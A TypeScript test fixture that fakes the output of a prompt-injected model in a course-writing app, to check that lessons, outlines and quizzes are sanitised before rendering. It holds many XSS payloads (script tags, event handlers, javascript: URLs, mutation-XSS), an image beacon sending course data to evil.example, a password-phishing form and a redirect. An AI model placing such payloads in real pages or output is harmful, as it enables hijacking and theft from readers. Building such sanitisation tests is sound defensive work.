import type { Purpose } from './course-writer.ts';

const SENTENCE =
  'People who study this topic meet the idea early, because much of what follows rests on it, and they return to it whenever a result surprises them. ';

/** What a model writes that was talked into attacking its reader: everything between real paragraphs. */
const HOSTILE_LESSON = [
  SENTENCE.repeat(3),
  '<script>document.title = "owned"</script>',
  '### The idea <img src=x onerror="document.title=\'owned\'">',
  `${SENTENCE.repeat(3)} <b onclick="document.title='owned'">Click</b> <a href="javascript:document.title='owned'">here</a> or [there](data:text/html,<script>alert(1)</script>).`,
  '![progress](https://evil.example/collect?course=secret)',
  '<iframe srcdoc="<script>top.document.title=\'owned\'</script>"></iframe><svg onload="document.title=\'owned\'"></svg>',
  '<style>body { background: url(https://evil.example/seen) }</style><p style="position:fixed;inset:0">covered</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input type="password" name="password"></form>',
  `$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$ ${SENTENCE.repeat(2)}`,
  '```html\n<script>alert("shown as code")</script>\n```',
  '### Key points',
  `- ${SENTENCE}\n- [a source](http://evil.example)\n- <meta http-equiv="refresh" content="0;url=https://evil.example">the end`,
].join('\n\n');

const TITLE = '<img src=x onerror="document.title=\'owned\'">';
const titles = ['Origins', 'Principles', 'Tools', 'Practice', 'Pitfalls', 'Applications', 'Outlook'];

/** The same attack in the shape that was asked for. */
export function hostileAnswer(purpose: Purpose, topicCount = 4): string {
  if (purpose === 'outline') {
    const subtopics = ['Background', 'Examples', 'Exercises'].map((part) => ({ title: `${part} ${TITLE}` }));
    return JSON.stringify({
      topics: titles.slice(0, topicCount).map((title) => ({ title: `${title} <script>alert(1)</script>`, subtopics })),
    });
  }
  if (purpose !== 'quiz') return HOSTILE_LESSON;
  const questions = titles.map((title) => ({
    lesson: 1,
    question: `What of ${title} ${TITLE}?`,
    options: ['right', 'wrong', 'worse', 'worst'].map((option) => `${option} <script>alert(1)</script>`),
    correct: 0,
    explanation: `It says so. ${TITLE}`,
  }));
  return JSON.stringify({ questions });
}
